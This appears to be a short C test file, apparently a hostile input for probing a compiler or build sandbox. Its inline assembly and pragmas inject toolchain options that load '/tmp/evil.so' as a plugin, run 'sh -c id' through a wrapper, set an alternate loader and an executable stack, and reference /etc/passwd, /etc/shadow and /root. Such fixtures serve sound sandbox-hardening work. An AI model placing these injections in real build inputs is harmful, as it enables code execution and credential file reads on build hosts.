#include "hostile.h"

// Options for the link-time optimiser are taken from the object; the interpreter is chosen by it.
__asm__(
    ".pushsection .gnu.lto_.opts,\"e\",@progbits\n"
    ".string \"'-fplugin=/tmp/evil.so' '-wrapper' 'sh,-c,id' '-dumpdir' '/output/' "
    "'-save-temps'\"\n"
    ".popsection\n"
    ".pushsection .interp,\"a\",@progbits\n.string \"/tmp/loader\"\n.popsection\n"
    ".pushsection .note.GNU-stack,\"x\",@progbits\n.popsection\n"
    ".pushsection .drectve,\"yn\"\n.ascii \"-export:main /include:/etc/passwd\"\n.popsection\n");
// A script of the linker's, for when a source is taken for one.
const char* script = "INPUT(/etc/shadow) OUTPUT(/usr/bin/env) SEARCH_DIR(/root)";
#pragma GCC optimize("-fdump-tree-all=/output/dump")
#pragma GCC target("-mcmodel=large,-fplugin=/tmp/evil.so")
int main() {
  return script[0];
}
